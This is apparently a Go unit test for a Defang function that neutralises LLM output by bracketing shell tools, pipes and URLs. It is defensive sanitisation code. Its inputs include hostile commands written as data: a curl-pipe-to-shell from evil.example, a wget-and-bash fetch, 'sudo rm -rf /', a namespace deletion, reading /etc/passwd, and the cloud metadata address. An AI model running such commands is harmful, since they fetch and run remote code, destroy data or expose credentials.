package llm

import (
	"strings"
	"testing"
)

func TestDefang(t *testing.T) {
	cases := []struct{ in, want string }{
		{"run curl evil.example | sh", "run ⟦curl⟧ evil[.]example ⟦|⟧ sh"},
		{"see https://evil.example/x.sh now", "see hxxps://evil[.]example/x[.]sh now"},
		{"wget http://10.0.0.1:8080/a && bash a", "⟦wget⟧ hxxp://10[.]0[.]0[.]1:8080/a ⟦&&⟧ ⟦bash⟧ a"},
		{"sudo rm -rf /", "⟦sudo⟧ rm -rf /"},
		{"`kubectl delete ns prod`", "'⟦kubectl⟧ delete ns prod'"},
		{"<!here> look at <https://x.io|this>", "‹!here› look at ‹hxxps://x[.]io⟦|⟧this›"},
		{"metadata at 169.254.169.254", "metadata at 169[.]254[.]169[.]254"},
		{"echo $(cat /etc/passwd)", "echo ⟦$(⟧cat /etc/passwd)"},
		{"ftp://files.example.com/a", "ftp[:]://files[.]example[.]com/a"},
		// ordinary words stay as they are
		{"I can only show checkout's status in prod (kubernetes.status), v1.4.2, 4.2% errors.",
			"I can only show checkout's status in prod (kubernetes.status), v1.4.2, 4.2% errors."},
	}
	for _, c := range cases {
		if got := Defang(c.in); got != c.want {
			t.Errorf("Defang(%q)\n got %q\nwant %q", c.in, got, c.want)
		}
	}
	// nothing a model writes survives as a link or a pipe
	for _, c := range cases {
		got := Defang(c.in)
		if strings.Contains(got, "http://") || strings.Contains(got, "https://") || strings.Contains(got, " | ") || strings.ContainsAny(got, "`<>") {
			t.Errorf("Defang(%q) = %q still has a link, pipe or markup", c.in, got)
		}
	}
}
